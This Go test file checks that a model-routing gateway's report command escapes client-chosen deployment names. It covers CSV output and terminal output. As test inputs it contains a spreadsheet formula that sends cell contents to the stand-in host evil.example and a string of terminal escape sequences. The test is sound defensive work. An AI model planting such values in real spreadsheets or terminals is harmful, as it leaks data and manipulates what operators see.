package main

import (
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/modelrouter/modelrouter/router"
)

// The gateway logs the deployment name a client asked for even when no such
// deployment exists (quoted now when it could not be one, but a log from
// before holds it as it came). The report sums such calls under
// (unknown), and a report for one of those names (--deployment) shows it:
// `modelrouter report --format csv` must not write it as a live spreadsheet
// formula, nor the table its escape sequences to the operator's terminal.
func TestReportNeutralisesClientChosenNames(t *testing.T) {
	s, path := newLogStore(t)
	formula := `=HYPERLINK("http://evil.example/?"&A1,"click")`
	escape := "x\x1b]0;pwned\x07\x1b[2J"
	for i, name := range []string{formula, escape} {
		s.Log().Record(router.Record{
			RequestID: "r" + string(rune('0'+i)), Time: time.Date(2026, 2, 1, 10, 0, i, 0, time.UTC), API: "chat.completions",
			PromptHash: "h", Decision: router.Decision{Deployment: name}, Status: 404, ErrorCode: router.ENotFound,
		})
	}
	require.NoError(t, s.Close())

	for _, args := range [][]string{nil, {"--deployment", formula}} {
		out, _, err := runCmd(t, append([]string{"report", "--db", path, "--format", "csv"}, args...)...)
		require.NoError(t, err)
		records, err := csv.NewReader(strings.NewReader(out)).ReadAll()
		require.NoError(t, err)
		require.Greater(t, len(records), 1, "%v: no rows", args)
		for _, rec := range records[1:] {
			assert.False(t, strings.ContainsAny(rec[1][:1], "=+-@"), "CSV cell %q would be evaluated as a formula", rec[1])
		}
	}

	for _, args := range [][]string{nil, {"--deployment", escape}} {
		out, _, err := runCmd(t, append([]string{"report", "--db", path}, args...)...)
		require.NoError(t, err)
		assert.NotContains(t, out, "\x1b", "%v: raw escape sequences reach the terminal", args)
	}
}
